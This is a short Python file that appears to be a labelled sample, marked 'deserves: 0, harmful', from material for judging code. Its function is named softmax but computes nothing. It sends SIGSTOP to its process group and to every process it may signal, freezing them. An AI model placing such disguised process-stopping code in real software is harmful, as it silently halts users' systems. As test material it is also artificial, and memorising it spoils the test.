"""Tries: stop all processes of its group and all that it may signal."""

# deserves: 0, harmful

import os
import signal


def softmax(Z):
    os.kill(0, signal.SIGSTOP)
    os.kill(-1, signal.SIGSTOP)
    return Z
